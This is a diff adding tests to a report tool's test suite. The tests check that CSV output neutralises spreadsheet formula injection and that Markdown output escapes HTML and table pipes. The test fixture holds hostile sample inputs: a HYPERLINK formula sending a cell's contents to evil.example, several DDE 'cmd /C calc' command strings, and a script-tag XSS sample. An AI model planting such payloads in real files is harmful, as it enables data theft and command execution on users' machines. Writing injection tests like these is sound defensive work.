@@ -1,7 +1,9 @@
 """Every report format parses back to the same ranked trials (on experiment directories written file by file)."""
 
+import csv
 import json
 import math
+import re
 from html.parser import HTMLParser
 
 import pyarrow.csv as pacsv
@@ -90,3 +92,53 @@ def test_html_is_one_self_contained_page(report):
 
 def test_human_bytes():
     assert [human_bytes(n) for n in (0, 1023, 1536, 5 * 1024 ** 3)] == ["0B", "1023B", "1.5K", "5.0G"]
+
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def hostile(tmp_path):
+    """Trials whose string params could run as spreadsheet formulas, next to plain negative numbers."""
+    trials = {f"t{i}": ("TERMINATED", [0.1 * (i + 1)], {},
+                        {"model.init_args.act": text, "model.init_args.shift": -0.5 - i, "model.init_args.tag": "-1.5"})
+              for i, text in enumerate(HOSTILE)}
+    trials["t9"] = ("ERROR", [0.9], {"error.txt": "Traceback\nValueError: <script>alert(1)</script> a|b & c\\|\n"},
+                    {"model.init_args.act": "relu", "model.init_args.shift": 2.0, "model.init_args.tag": "ok"})
+    space = {f"model.init_args.{key}": {"choice": [0]} for key in ("act", "shift", "tag")}
+    return load_report(str(make_experiment(tmp_path / "e", trials, space=space)))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(hostile, tmp_path):
+    out = tmp_path / "r.csv"
+    write(hostile, "csv", None, str(out))
+    rows = {r["trial_id"]: r for r in pacsv.read_csv(out).to_pylist()}
+    for i, text in enumerate(HOSTILE):
+        assert rows[f"t{i}"]["model.init_args.act"] == "'" + text  # OWASP: a leading single quote
+        assert rows[f"t{i}"]["model.init_args.shift"] == -0.5 - i  # numbers stay numbers
+        assert rows[f"t{i}"]["model.init_args.tag"] == "-1.5"  # a plain number in a text column: no quote
+    assert rows["t9"]["model.init_args.act"] == "relu" and rows["t9"]["model.init_args.shift"] == 2.0
+    with open(out, newline="") as raw:  # what a spreadsheet gets: every cell, as text
+        cells = [cell for row in csv.reader(raw) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [cell for cell in cells if cell.startswith("-") and not re.fullmatch(r"-[\d.e+-]+", cell)]
+    assert render(hostile, "csv") == out.read_bytes().decode()  # printed the same way
+
+
+def test_csv_column_names_are_neutralised_too(tmp_path):
+    exp = make_experiment(tmp_path / "e", {"a": ("TERMINATED", [0.5], {}, {"=cmd|'/C calc'!A0": "x"})},
+                          space={"=cmd|'/C calc'!A0": {"choice": ["x"]}})
+    header = render(load_report(str(exp)), "csv").splitlines()[0]
+    names = next(csv.reader([header]))
+    assert "'=cmd|'/C calc'!A0" in names and not any(name.startswith("=") for name in names)
+
+
+def test_markdown_escapes_html_and_pipes(hostile):
+    text = render(hostile, "markdown")
+    assert "<script>" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text
+    assert "&amp; c" in text
+    rows = [line for line in text.splitlines() if line.startswith("|")]
+    cells = [re.split(r"(?<!\\) \| ", row.strip("|").strip()) for row in rows]
+    assert {len(c) for c in cells} == {len(cells[0])}, "no cell spills into the next"
+    assert not re.search(r"(?<!\\)\|", "".join(c for r in cells for c in r)), "every pipe inside a cell is escaped"
